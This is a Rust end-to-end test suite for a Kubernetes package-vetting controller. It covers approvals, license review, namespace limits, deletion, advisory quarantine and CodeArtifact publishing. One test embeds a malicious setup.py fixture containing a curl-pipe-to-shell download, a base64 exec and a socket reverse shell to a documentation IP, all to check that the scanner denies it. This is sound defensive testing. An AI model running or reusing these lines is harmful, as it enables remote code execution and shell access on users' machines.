//! The PackageRequest controller end to end: `airlock dev` with a local fixture upstream, driven
//! by the real `kubectl`, installed from with the real `pip` and `npm`.

mod common;

use std::process::Command;
use std::time::Duration;

use common::archives::{self, TarEntry};
use common::dev::{Dev, http_get, tmp, venv_tool};
use common::registry::{self, Fault, FixtureRegistry};
use serde_json::{Value, json};

/// A policy that lets clean fixtures through on its own and asks a human about anything else.
const POLICY_AND_REPOSITORIES: &str = r#"
apiVersion: airlock.dev/v1alpha1
kind: ScanPolicy
metadata: {name: e2e}
spec:
  approvalMode: OnFindings
  licenses: {allow: [MIT, Apache-2.0], otherwise: Review}
  rescanInterval: 1s
---
apiVersion: airlock.dev/v1alpha1
kind: PackageRepository
metadata: {name: local}
spec:
  builtin: {}
  policyRef: e2e
  allowedNamespaces: [team-a]
  deletionPolicy: Unlist
  unlistOnQuarantine: true
---
apiVersion: airlock.dev/v1alpha1
kind: PackageRepository
metadata: {name: team-b-only}
spec:
  builtin: {}
  policyRef: e2e
  allowedNamespaces: [team-b]
---
apiVersion: v1
kind: Namespace
metadata: {name: team-a}
"#;

fn request(name: &str, ecosystem: &str, package: &str, version: &str, repo: &str) -> String {
    format!(
        "apiVersion: airlock.dev/v1alpha1\nkind: PackageRequest\nmetadata: {{name: {name}, namespace: team-a}}\nspec: {{ecosystem: {ecosystem}, name: \"{package}\", version: \"{version}\", repositoryRef: {repo}, justification: e2e}}\n"
    )
}

fn fixture_wheel(reg: &FixtureRegistry, name: &str, version: &str) {
    let module = name.replace('-', "_");
    reg.add_wheel_with_metadata(
        name,
        &format!("{module}-{version}-py3-none-any.whl"),
        archives::wheel(name, version, "ANSWER = 42\n"),
        &archives::core_metadata(name, version),
    );
}

fn fixture_npm(reg: &FixtureRegistry, name: &str, version: &str, license: &str) {
    let manifest =
        json!({"name": name, "version": version, "main": "index.js", "license": license});
    reg.add_npm_version(
        name,
        version,
        archives::npm_tarball(&manifest.to_string(), "module.exports = 'from airlock';\n"),
        Fault::default(),
        json!({"license": license}),
    );
}

async fn start(name: &str, extra: &[&str]) -> (FixtureRegistry, Dev) {
    start_logging(name, extra, "info,kube=warn").await
}

async fn start_logging(name: &str, extra: &[&str], rust_log: &str) -> (FixtureRegistry, Dev) {
    let reg = FixtureRegistry::start().await;
    let (pypi, npm) = (
        format!("{}/simple/", reg.base()),
        format!("{}/npm/", reg.base()),
    );
    // `{registry}` in an argument stands for the fixture registry's base URL.
    let mut extra: Vec<String> = extra
        .iter()
        .map(|s| s.replace("{registry}", &reg.base()))
        .collect();
    // The advisory data comes as it does by default: osv.dev-style exports, downloaded.
    if !extra.iter().any(|a| a.starts_with("--advisories")) {
        let feed = reg.serve_osv_exports(&[registry::npm_placeholder_record()]);
        extra.extend(["--advisories-url".to_string(), feed]);
    }
    let name = format!("e2e-{name}");
    let rust_log = rust_log.to_string();
    let dev = tokio::task::spawn_blocking(move || {
        let mut args = vec!["--pypi-index", &pypi, "--npm-registry", &npm];
        args.extend(extra.iter().map(String::as_str));
        let dev = Dev::start_logging(&name, &args, &rust_log);
        dev.apply(POLICY_AND_REPOSITORIES);
        dev
    })
    .await
    .expect("join");
    (reg, dev)
}

fn condition<'a>(r: &'a Value, type_: &str) -> &'a Value {
    r["status"]["conditions"]
        .as_array()
        .and_then(|cs| cs.iter().find(|c| c["type"] == type_))
        .unwrap_or(&Value::Null)
}

/// kstatus as Flux and Argo CD compute it from these conditions.
fn kstatus(r: &Value) -> &'static str {
    if r["status"]["observedGeneration"] != r["metadata"]["generation"] {
        return "InProgress";
    }
    let is = |t: &str| condition(r, t)["status"] == "True";
    if is("Reconciling") {
        "InProgress"
    } else if is("Stalled") {
        "Failed"
    } else if is("Ready") {
        "Current"
    } else {
        "InProgress"
    }
}

fn run(cmd: &mut Command) -> std::process::Output {
    cmd.output().expect("command runs")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clean_requests_publish_and_install_with_pip_and_npm() {
    let (reg, dev) = start("clean", &[]).await;
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    fixture_npm(&reg, "tidy-js", "2.0.0", "MIT");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("tidy-lib", "pypi", "tidy-lib", "1.0.0", "local"));
        dev.apply(&request("tidy-js", "npm", "tidy-js", "2.0.0", "local"));
        for name in ["tidy-lib", "tidy-js"] {
            let out = dev.kubectl(
                &[
                    "wait",
                    "--for=condition=Ready",
                    &format!("pkgreq/{name}"),
                    "-n",
                    "team-a",
                    "--timeout=60s",
                ],
                None,
            );
            assert!(
                out.status.success(),
                "kubectl wait {name}: {}\n{}",
                String::from_utf8_lossy(&out.stderr),
                dev.log()
            );
            let r = dev.request("team-a", name);
            assert_eq!(r["status"]["phase"], "Published");
            assert_eq!(kstatus(&r), "Current");
            assert_eq!(condition(&r, "Approved")["reason"], "PolicyApproved");
            assert_eq!(condition(&r, "Denied"), &Value::Null, "never both");
            assert_eq!(r["status"]["decision"]["verdict"], "Approved");
            let files = r["status"]["files"].as_array().expect("files");
            assert_eq!(files.len(), 1);
            assert_eq!(files[0]["sha256"].as_str().map(str::len), Some(64));
            assert_eq!(r["status"]["publication"]["repository"], "local");
            assert!(
                r["metadata"]["finalizers"]
                    .to_string()
                    .contains("airlock.dev/")
            );
            let reasons = dev.event_reasons("team-a", name);
            for want in ["Accepted", "Fetched", "Approved", "Published"] {
                assert!(
                    reasons.iter().any(|r| r == want),
                    "{name}: event {want} in {reasons:?}"
                );
            }
        }
        let out = dev.kubectl(&["describe", "pkgreq", "tidy-lib", "-n", "team-a"], None);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("Published"),
            "kubectl describe shows the events: {text}"
        );

        // The real clients install what was published.
        let dir = tmp("e2e-install");
        let pip = venv_tool("pip").map(Command::new).unwrap_or_else(|| {
            let mut c = Command::new("python3");
            c.args(["-m", "pip"]);
            c
        });
        let mut pip = pip;
        let out = run(pip
            .args([
                "install",
                "--no-deps",
                "--no-cache-dir",
                "--disable-pip-version-check",
                "--index-url",
                dev.var("PIP_INDEX_URL"),
                "--target",
            ])
            .arg(dir.join("site"))
            .arg("tidy-lib==1.0.0"));
        assert!(
            out.status.success(),
            "pip: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            std::fs::read_to_string(dir.join("site/tidy_lib/__init__.py")).expect("installed"),
            "ANSWER = 42\n"
        );
        let project = dir.join("project");
        std::fs::create_dir_all(&project).expect("dir");
        std::fs::write(
            project.join("package.json"),
            r#"{"name":"consumer","version":"1.0.0","private":true}"#,
        )
        .expect("write");
        let out = run(Command::new("npm")
            .args([
                "install",
                "--no-audit",
                "--no-fund",
                "--registry",
                dev.var("NPM_CONFIG_REGISTRY"),
                "--cache",
            ])
            .arg(dir.join("npm-cache"))
            .arg("tidy-js@2.0.0")
            .current_dir(&project));
        assert!(
            out.status.success(),
            "npm: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            std::fs::read_to_string(project.join("node_modules/tidy-js/index.js"))
                .expect("installed"),
            "module.exports = 'from airlock';\n"
        );
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malicious_setup_py_is_denied_and_nothing_is_published() {
    let (reg, dev) = start("evil", &[]).await;
    let setup = "import base64, os, socket, subprocess\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.7/stage2.sh | sh')\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\ns = socket.socket(); s.connect(('203.0.113.7', 4444)); subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\nsetup(name='evil-pkg', version='1.0.0')\n";
    let sdist = archives::tar_gz(&[
        TarEntry::file(
            "evil_pkg-1.0.0/PKG-INFO",
            archives::core_metadata("evil-pkg", "1.0.0").as_bytes(),
        ),
        TarEntry::file("evil_pkg-1.0.0/setup.py", setup.as_bytes()),
    ]);
    reg.add_pypi_file(
        "evil-pkg",
        "evil_pkg-1.0.0.tar.gz",
        sdist,
        Fault::default(),
        json!({}),
    );
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("evil-pkg", "pypi", "evil-pkg", "1.0.0", "local"));
        let r = dev.wait_phase("team-a", "evil-pkg", "Rejected");
        assert_eq!(kstatus(&r), "Failed");
        assert_eq!(condition(&r, "Denied")["status"], "True");
        assert_eq!(condition(&r, "Denied")["reason"], "PolicyDenied");
        assert_eq!(condition(&r, "Approved"), &Value::Null, "never both");
        assert_eq!(condition(&r, "Ready")["status"], "False");
        let decision = &r["status"]["decision"];
        assert_eq!(decision["verdict"], "Denied");
        let findings = decision["findings"].as_array().expect("findings");
        assert!(
            findings.iter().any(
                |f| f["file"].as_str().is_some_and(|p| p.ends_with("setup.py"))
                    && f["rule"]
                        .as_str()
                        .is_some_and(|r| r.starts_with("heuristics."))
            ),
            "the deciding rule and file are in status: {decision}"
        );
        assert!(
            condition(&r, "Stalled")["message"]
                .as_str()
                .unwrap_or("")
                .contains("nothing was published")
        );
        assert!(r["status"].get("publication").is_none());
        let (code, _) = http_get(&format!("{}evil-pkg/", dev.var("PIP_INDEX_URL")));
        assert_eq!(code, 404, "nothing published");
        assert!(
            dev.event_reasons("team-a", "evil-pkg")
                .iter()
                .any(|r| r == "Denied")
        );
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_findings_waits_for_an_approver_and_namespaces_are_enforced() {
    let (reg, dev) = start("approve", &[]).await;
    fixture_npm(&reg, "odd-licence", "1.0.0", "WTFPL");
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("odd-licence", "npm", "odd-licence", "1.0.0", "local"));
        let r = dev.wait_phase("team-a", "odd-licence", "AwaitingApproval");
        assert_eq!(kstatus(&r), "InProgress", "waiting on a human is in progress, not failed");
        assert_eq!(condition(&r, "Reconciling")["reason"], "AwaitingApproval");
        let msg = condition(&r, "Reconciling")["message"].as_str().unwrap_or("").to_string();
        assert!(msg.contains("airlock approve odd-licence -n team-a"), "{msg}");
        assert_eq!(r["status"]["decision"]["findings"][0]["rule"], "license.not-allowed");
        assert_eq!(condition(&r, "Approved"), &Value::Null);
        // Still waiting a moment later: nothing moves without a human.
        std::thread::sleep(Duration::from_secs(2));
        assert_eq!(dev.request("team-a", "odd-licence")["status"]["phase"], "AwaitingApproval");
        // `airlock status` lists it with the command that decides it.
        let out = Command::new(common::dev::airlock_bin())
            .args(["status"])
            .env("KUBECONFIG", dev.var("KUBECONFIG"))
            .output()
            .expect("airlock status");
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert!(
            said.contains("AwaitingApproval") && said.contains("Waiting for a human: 1")
                && said.contains("team-a/odd-licence (Npm odd-licence 1.0.0): license.not-allowed")
                && said.contains("airlock approve odd-licence -n team-a"),
            "{said}"
        );

        let out = Command::new(common::dev::airlock_bin())
            .args(["approve", "odd-licence", "-n", "team-a", "--reason", "WTFPL reviewed by legal (LEG-7)"])
            .env("KUBECONFIG", dev.var("KUBECONFIG"))
            .output()
            .expect("airlock approve");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let r = dev.wait_phase("team-a", "odd-licence", "Published");
        assert_eq!(kstatus(&r), "Current");
        assert_eq!(condition(&r, "Approved")["reason"], "ApprovedByUser");
        let decision = &r["status"]["decision"];
        assert_eq!(decision["verdict"], "Approved");
        assert_eq!(decision["decidedBy"], "Approver");
        assert_eq!(decision["approver"], "airlock-dev");
        assert_eq!(decision["reason"], "WTFPL reviewed by legal (LEG-7)");

        // A repository that does not list the request's namespace.
        dev.apply(&request("sneaky", "pypi", "tidy-lib", "1.0.0", "team-b-only"));
        let r = dev.wait_for("team-a", "sneaky", Duration::from_secs(30), "stalled", |r| {
            condition(r, "Stalled")["status"] == "True"
        });
        assert_eq!(kstatus(&r), "Failed");
        assert_eq!(condition(&r, "Stalled")["reason"], "NamespaceNotAllowed");
        let msg = condition(&r, "Stalled")["message"].as_str().unwrap_or("");
        assert!(msg.contains("team-b-only") && msg.contains("team-a") && msg.contains("allowedNamespaces"), "{msg}");
        assert!(r["status"].get("publication").is_none());

        // The repository's owner adds the namespace: the request goes through without a new one.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: PackageRepository\nmetadata: {name: team-b-only}\nspec:\n  builtin: {}\n  policyRef: e2e\n  allowedNamespaces: [team-b, team-a]\n");
        let r = dev.wait_phase("team-a", "sneaky", "Published");
        assert_eq!(kstatus(&r), "Current");
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deletion_applies_the_policy_and_a_new_advisory_quarantines() {
    let advisories = tmp("e2e-osv");
    // An air-gapped copy: a real record to start with, more synced in later.
    let real = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/osv/PyPI/PYSEC-2005-1.json");
    std::fs::copy(&real, advisories.join("PYSEC-2005-1.json")).expect("copy a record");
    let adv = advisories.to_string_lossy().into_owned();
    let (reg, dev) = start("delete", &["--advisories", &adv]).await;
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    fixture_wheel(&reg, "later-bad", "3.1.0");
    fixture_wheel(&reg, "kept-lib", "2.0.0");
    tokio::task::spawn_blocking(move || {
        // Two requests for the same version: deleting one leaves the files to the other.
        dev.apply(&request("tidy-lib", "pypi", "tidy-lib", "1.0.0", "local"));
        dev.apply(&request("tidy-lib-too", "pypi", "tidy-lib", "1.0.0", "local"));
        dev.wait_phase("team-a", "tidy-lib", "Published");
        dev.wait_phase("team-a", "tidy-lib-too", "Published");
        let index = format!("{}tidy-lib/", dev.var("PIP_INDEX_URL"));
        let (code, body) = http_get(&index);
        assert_eq!(code, 200);
        assert!(body.contains("tidy_lib-1.0.0-py3-none-any.whl"), "{body}");
        let out = dev.kubectl(&["delete", "pkgreq", "tidy-lib-too", "-n", "team-a", "--timeout=30s"], None);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let (_, body) = http_get(&index);
        assert!(body.contains("tidy_lib-1.0.0-py3-none-any.whl"), "team-a/tidy-lib still holds it: {body}");
        assert!(dev.event_reasons("team-a", "tidy-lib-too").iter().any(|r| r == "DeletionPolicyDeferred"));
        // Deleting the last applies the repository's deletion policy (Unlist): pip can no longer
        // see it.
        let out = dev.kubectl(&["delete", "pkgreq", "tidy-lib", "-n", "team-a", "--timeout=30s"], None);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert!(dev.get_json(&["pkgreq", "tidy-lib", "-n", "team-a"]).is_none(), "the finalizer let go");
        let (_, body) = http_get(&index);
        assert!(!body.contains("tidy_lib-1.0.0-py3-none-any.whl"), "unlisted: {body}");
        assert!(dev.event_reasons("team-a", "tidy-lib").iter().any(|r| r == "DeletionPolicyApplied"));

        // A published package that a later advisory marks malicious is quarantined and unlisted.
        dev.apply(&request("later-bad", "pypi", "later-bad", "3.1.0", "local"));
        let r = dev.wait_phase("team-a", "later-bad", "Published");
        let first_scan = r["status"]["lastScanTime"].clone();
        std::thread::sleep(Duration::from_millis(1500));
        malicious_record(&advisories, "MAL-2026-4242", "later-bad", "3.1.0");
        let r = dev.wait_phase("team-a", "later-bad", "Quarantined");
        assert_ne!(r["status"]["lastScanTime"], first_scan);
        assert_eq!(kstatus(&r), "Failed");
        let msg = condition(&r, "Stalled")["message"].as_str().unwrap_or("").to_string();
        assert!(msg.contains("MAL-2026-4242"), "{msg}");
        assert_eq!(r["status"]["decision"]["verdict"], "Approved", "the decision itself is never rewritten");
        let (_, body) = http_get(&format!("{}later-bad/", dev.var("PIP_INDEX_URL")));
        assert!(!body.contains("later_bad-3.1.0"), "unlisted on quarantine: {body}");
        assert!(dev.event_reasons("team-a", "later-bad").iter().any(|r| r == "Quarantined"));

        // Kept under Retain after its request is deleted, a version is still re-checked: a new
        // advisory quarantines (and here unlists) it, reported on its PackageRepository.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: PackageRepository\nmetadata: {name: kept}\nspec:\n  builtin: {}\n  policyRef: e2e\n  allowedNamespaces: [team-a]\n  deletionPolicy: Retain\n  unlistOnQuarantine: true\n");
        dev.apply(&request("kept-lib", "pypi", "kept-lib", "2.0.0", "kept"));
        dev.wait_phase("team-a", "kept-lib", "Published");
        let out = dev.kubectl(&["delete", "pkgreq", "kept-lib", "-n", "team-a", "--timeout=30s"], None);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let index = format!("{}kept-lib/", dev.var("PIP_INDEX_URL"));
        let (_, body) = http_get(&index);
        assert!(body.contains("kept_lib-2.0.0-py3-none-any.whl"), "Retain keeps it: {body}");
        malicious_record(&advisories, "MAL-2026-4343", "kept-lib", "2.0.0");
        wait_unlisted(&index, "kept_lib-2.0.0-py3-none-any.whl");
        assert!(
            dev.event_reasons("default", "kept").iter().any(|r| r == "Quarantined"),
            "{:?}",
            dev.event_reasons("default", "kept")
        );
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn codeartifact_repositories_get_the_package_its_origin_control_and_the_deletion_policy() {
    use aws_sdk_codeartifact::types::{
        AllowPublish, AllowUpstream, PackageFormat, PackageVersionStatus,
    };
    let advisories = tmp("e2e-osv-ca");
    let real = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/osv/PyPI/PYSEC-2005-1.json");
    std::fs::copy(&real, advisories.join("PYSEC-2005-1.json")).expect("copy a record");
    let adv = advisories.to_string_lossy().into_owned();
    let (reg, dev) = start("codeartifact", &["--advisories", &adv]).await;
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    fixture_wheel(&reg, "kept-lib", "2.0.0");
    // The starter repository pypi-approved (policy default, blockUpstream, deletionPolicy Unlist).
    let dev = tokio::task::spawn_blocking(move || {
        dev.apply(&request(
            "into-ca",
            "pypi",
            "tidy-lib",
            "1.0.0",
            "pypi-approved",
        ));
        let r = dev.wait_phase("team-a", "into-ca", "Published");
        let endpoint = r["status"]["publication"]["endpoint"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(
            endpoint.starts_with(dev.var("AWS_ENDPOINT_URL")),
            "{endpoint}"
        );
        dev
    })
    .await
    .expect("join");
    let ca = common::aws::codeartifact(dev.var("AWS_ENDPOINT_URL"));
    let version = |ca: aws_sdk_codeartifact::Client| async move {
        ca.describe_package_version()
            .domain("airlock")
            .repository("pypi-approved")
            .format(PackageFormat::Pypi)
            .package("tidy-lib")
            .package_version("1.0.0")
            .send()
            .await
            .expect("the version is in CodeArtifact")
            .package_version()
            .and_then(|v| v.status().cloned())
    };
    assert_eq!(
        version(ca.clone()).await,
        Some(PackageVersionStatus::Published)
    );
    let package = ca
        .describe_package()
        .domain("airlock")
        .repository("pypi-approved")
        .format(PackageFormat::Pypi)
        .package("tidy-lib")
        .send()
        .await
        .expect("package");
    let r = package
        .package()
        .and_then(|p| p.origin_configuration())
        .and_then(|o| o.restrictions())
        .expect("origin controls set");
    assert_eq!(
        (r.publish(), r.upstream()),
        (&AllowPublish::Allow, &AllowUpstream::Block)
    );
    let dev = tokio::task::spawn_blocking(move || {
        let out = dev.kubectl(
            &[
                "delete",
                "pkgreq",
                "into-ca",
                "-n",
                "team-a",
                "--timeout=30s",
            ],
            None,
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        dev
    })
    .await
    .expect("join");
    assert_eq!(
        version(ca.clone()).await,
        Some(PackageVersionStatus::Unlisted),
        "deletionPolicy Unlist"
    );
    // Requested again, the same files: CodeArtifact keeps the Unlisted version, so the
    // controller makes it Published again by a status change.
    let dev = tokio::task::spawn_blocking(move || {
        dev.apply(&request(
            "into-ca-again",
            "pypi",
            "tidy-lib",
            "1.0.0",
            "pypi-approved",
        ));
        dev.wait_phase("team-a", "into-ca-again", "Published");
        dev
    })
    .await
    .expect("join");
    assert_eq!(
        version(ca.clone()).await,
        Some(PackageVersionStatus::Published),
        "installable again"
    );
    // CodeArtifact requires the normalized PyPI name in API calls: another spelling finds nothing.
    let other_spelling = ca
        .describe_package_version()
        .domain("airlock")
        .repository("pypi-approved")
        .format(PackageFormat::Pypi)
        .package("Tidy_Lib")
        .package_version("1.0.0")
        .send()
        .await
        .expect_err("not the stored name");
    assert_eq!(
        aws_sdk_codeartifact::error::ProvideErrorMetadata::code(&other_spelling),
        Some("ResourceNotFoundException")
    );

    // Kept under Retain in a CodeArtifact repository after its request is deleted, a version is
    // still re-checked: a new advisory unlists it there, reported on its PackageRepository.
    ca.create_repository()
        .domain("airlock")
        .repository("pypi-kept")
        .send()
        .await
        .expect("create the repository");
    let dev = tokio::task::spawn_blocking(move || {
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: PackageRepository\nmetadata: {name: pypi-kept}\nspec:\n  codeArtifact: {region: us-east-1, domain: airlock, repository: pypi-kept}\n  policyRef: e2e\n  allowedNamespaces: [team-a]\n  deletionPolicy: Retain\n  unlistOnQuarantine: true\n");
        // Ready once CodeArtifact answers for it, with the index pip is pointed at.
        let repo = wait_ready(&dev, "packagerepository/pypi-kept");
        assert_eq!(repo["status"]["type"], "CodeArtifact");
        let index = repo["status"]["pypiEndpoint"].as_str().unwrap_or_default();
        assert!(
            index.contains("/pypi-kept/") && index.ends_with("/simple/"),
            "{index}"
        );
        dev.apply(&request("kept-ca", "pypi", "Kept_Lib", "2.0.0", "pypi-kept"));
        dev.wait_phase("team-a", "kept-ca", "Published");
        delete_request(&dev, "kept-ca");
        dev
    })
    .await
    .expect("join");
    let kept = |ca: aws_sdk_codeartifact::Client| async move {
        ca.describe_package_version()
            .domain("airlock")
            .repository("pypi-kept")
            .format(PackageFormat::Pypi)
            .package("kept-lib")
            .package_version("2.0.0")
            .send()
            .await
            .expect("the version is in CodeArtifact, under its normalized name")
            .package_version()
            .and_then(|v| v.status().cloned())
    };
    assert_eq!(
        kept(ca.clone()).await,
        Some(PackageVersionStatus::Published),
        "Retain keeps it"
    );
    malicious_record(&advisories, "MAL-2026-4545", "kept-lib", "2.0.0");
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while kept(ca.clone()).await != Some(PackageVersionStatus::Unlisted) {
        assert!(
            std::time::Instant::now() < deadline,
            "still Published a minute after the advisory"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    tokio::task::spawn_blocking(move || {
        let reasons = dev.event_reasons("default", "pypi-kept");
        assert!(reasons.iter().any(|r| r == "Quarantined"), "{reasons:?}");
    })
    .await
    .expect("join");
}

/// `kubectl wait --for=condition=Ready` on `what` (cluster-scoped), which must succeed; the object.
fn wait_ready(dev: &Dev, what: &str) -> Value {
    let out = dev.kubectl(
        &["wait", "--for=condition=Ready", what, "--timeout=60s"],
        None,
    );
    assert!(
        out.status.success(),
        "kubectl wait {what}: {}\n{}",
        String::from_utf8_lossy(&out.stderr),
        dev.log()
    );
    dev.get_json(&[what]).expect("the object")
}

/// Polls `what` until `pred` holds, or panics with its last status.
fn wait_object(dev: &Dev, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let obj = dev.get_json(&[what]).unwrap_or(Value::Null);
        if pred(&obj) {
            return obj;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{what}: {}\n{}",
            obj["status"],
            dev.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Repositories and policies carry kstatus conditions too: `kubectl wait` returns on them, a
/// repository names its install URLs, and what is wrong stalls naming the field.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repositories_and_policies_report_ready_and_what_is_wrong() {
    let (_reg, dev) = start("status", &[]).await;
    tokio::task::spawn_blocking(move || {
        let repo = wait_ready(&dev, "packagerepository/local");
        assert_eq!(repo["status"]["type"], "Builtin");
        assert_eq!(kstatus(&repo), "Current");
        for (field, path) in [("pypiEndpoint", "/simple/"), ("npmEndpoint", "/npm/")] {
            let url = repo["status"][field].as_str().unwrap_or_default();
            assert!(url.starts_with("http://127.0.0.1:") && url.ends_with(path), "{field}: {url}");
        }
        let policy = wait_ready(&dev, "scanpolicy/e2e");
        assert_eq!(kstatus(&policy), "Current");
        assert_eq!(condition(&policy, "Ready")["reason"], "Valid");

        // A repository whose policy does not exist yet: stalled, then ready once it does.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: PackageRepository\nmetadata: {name: early}\nspec: {builtin: {}, policyRef: later}\n");
        let early = wait_object(&dev, "packagerepository/early", |r| {
            condition(r, "Stalled")["status"] == "True"
        });
        assert_eq!(kstatus(&early), "Failed");
        assert_eq!(condition(&early, "Ready")["reason"], "PolicyNotFound");
        assert!(
            condition(&early, "Ready")["message"]
                .as_str()
                .is_some_and(|m| m.contains("ScanPolicy later")),
            "{}",
            early["status"]
        );
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata: {name: later}\nspec:\n  exceptions:\n  - {id: PYSEC-2020-1, reason: accepted until fixed, expires: \"2020-01-01T00:00:00Z\"}\n  - {id: PYSEC-2020-2, reason: accepted, expires: \"2999-01-01T00:00:00Z\"}\n");
        wait_ready(&dev, "packagerepository/early");
        let later = wait_ready(&dev, "scanpolicy/later");
        assert_eq!(later["status"]["expiredExceptions"], json!(["PYSEC-2020-1"]));
        assert_eq!(condition(&later, "Ready")["reason"], "ExceptionsExpired");

        // A policy that cannot mean what it says.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata: {name: muddled}\nspec:\n  heuristics: {denyScore: 3, reviewScore: 5}\n  licenses: {allow: [MIT], deny: [MIT]}\n");
        let muddled = wait_object(&dev, "scanpolicy/muddled", |p| {
            condition(p, "Stalled")["status"] == "True"
        });
        assert_eq!(condition(&muddled, "Ready")["reason"], "InvalidPolicy");
        let message = condition(&muddled, "Stalled")["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("spec.heuristics.reviewScore (5)")
                && message.contains("spec.licenses.allow[0] \"MIT\" is also on the deny list"),
            "{message}"
        );
        // Fixed, it is Ready at its new generation.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata: {name: muddled}\nspec:\n  heuristics: {denyScore: 5, reviewScore: 3}\n  licenses: {allow: [MIT]}\n");
        let fixed = wait_object(&dev, "scanpolicy/muddled", |p| {
            condition(p, "Ready")["status"] == "True"
        });
        assert_eq!(kstatus(&fixed), "Current");
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_outages_back_off_and_recover_and_a_missing_version_stalls() {
    let (reg, dev) = start("retry", &[]).await;
    // Five 503s: more than one fetch's own retries (4 attempts), so the request fails once.
    reg.add_pypi_file(
        "flaky-lib",
        "flaky_lib-1.0.0-py3-none-any.whl",
        archives::wheel("flaky-lib", "1.0.0", "X = 1\n"),
        Fault {
            fail_first: 5,
            ..Fault::default()
        },
        json!({}),
    );
    fixture_wheel(&reg, "tidy-lib", "1.0.0");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("flaky-lib", "pypi", "flaky-lib", "1.0.0", "local"));
        let r = dev.wait_phase("team-a", "flaky-lib", "Failed");
        assert_eq!(
            kstatus(&r),
            "InProgress",
            "a retried failure is still in progress"
        );
        assert_eq!(condition(&r, "Reconciling")["reason"], "DownloadFailed");
        assert_eq!(condition(&r, "Stalled")["status"], "False");
        let msg = condition(&r, "Reconciling")["message"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(
            msg.contains("attempt 1 failed") && msg.contains("retrying in 5s"),
            "{msg}"
        );
        let r = dev.wait_phase("team-a", "flaky-lib", "Published");
        assert!(r["status"].get("failures").is_none(), "reset on success");
        assert!(
            dev.event_reasons("team-a", "flaky-lib")
                .iter()
                .any(|r| r == "DownloadFailed")
        );

        // A version the registry does not have: retrying cannot help.
        dev.apply(&request("no-such", "pypi", "tidy-lib", "9.9.9", "local"));
        let r = dev.wait_for(
            "team-a",
            "no-such",
            Duration::from_secs(30),
            "stalled",
            |r| condition(r, "Stalled")["status"] == "True",
        );
        assert_eq!(r["status"]["phase"], "Failed");
        assert_eq!(kstatus(&r), "Failed");
        assert_eq!(condition(&r, "Stalled")["reason"], "VersionNotFound");
        let msg = condition(&r, "Stalled")["message"].as_str().unwrap_or("");
        assert!(
            msg.contains("9.9.9") && msg.contains("1.0.0"),
            "names the versions there are: {msg}"
        );
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_change_re_decides_the_requests_it_judges() {
    let (reg, dev) = start("policy-change", &[]).await;
    fixture_npm(&reg, "odd-licence", "1.0.0", "WTFPL");
    tokio::task::spawn_blocking(move || {
        dev.apply(&request("odd-licence", "npm", "odd-licence", "1.0.0", "local"));
        dev.wait_phase("team-a", "odd-licence", "AwaitingApproval");
        // The security team allows the licence: the ScanPolicy watch re-decides the request.
        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata: {name: e2e}\nspec:\n  approvalMode: OnFindings\n  licenses: {allow: [MIT, Apache-2.0, WTFPL], otherwise: Review}\n  rescanInterval: 1s\n");
        let r = dev.wait_phase("team-a", "odd-licence", "Published");
        assert_eq!(condition(&r, "Approved")["reason"], "PolicyApproved");
        assert_eq!(r["status"]["decision"]["decidedBy"], "Policy");
    })
    .await
    .expect("join");
}

/// No advisory data yet (the export is not there): a request waits, and says why, instead of
/// being approved unchecked; once the controller's download succeeds it is decided, and the
/// downloaded records deny what they should.
